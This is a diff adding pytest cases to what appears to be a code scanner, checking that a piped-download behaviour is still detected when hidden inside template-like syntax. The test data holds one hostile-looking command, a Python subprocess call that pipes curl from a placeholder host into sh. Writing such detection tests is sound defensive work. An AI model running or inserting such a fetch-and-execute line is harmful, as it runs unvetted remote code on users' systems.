@@ -146,6 +146,24 @@ def test_a_template_of_code_is_read_as_it_is_filled_in(does: str, there: bool) -
     assert any(isinstance(one, Behaviour) and one.id == "process.piped" for one in seen) == there
 
 
+PIPED = "subprocess.run('curl http://c.invalid/x | sh', shell=True)"
+
+
+@pytest.mark.parametrize(
+    "hides",
+    [f"{{#\n0: {PIPED}}} #}}\n", f"{{{{{PIPED}}}}}\n", f"{{{{ {PIPED} | lower }}}}\n", f"x = {{{{1: {PIPED}}}}}\n"],
+)
+def test_code_that_is_written_like_a_part_of_a_template_is_not_left_out(hides: str) -> None:
+    seen = look("client.py", f"import subprocess\nclass {{{{ name }}}}Client(Base):\n    pass\n{hides}")
+    held = [one for one in seen if isinstance(one, Gap) and Question.NEXT in one.questions]
+    assert held or any(isinstance(one, Behaviour) and one.id == "process.piped" for one in seen)
+
+
+def test_a_template_is_told_as_one() -> None:
+    seen = look("{{cookiecutter.id}}/client.py", TEMPLATE % "return given")
+    assert any(isinstance(one, Gap) and "read as a template" in one.why for one in seen)
+
+
 def test_what_is_no_template_and_does_not_parse_is_a_gap() -> None:
     seen = look("client.py", "import subprocess\nclass { Client(: ) %% } ==\n" + "def (x = = (\n" * 9)
     assert [one for one in seen if isinstance(one, Gap) and Question.NEXT in one.questions]
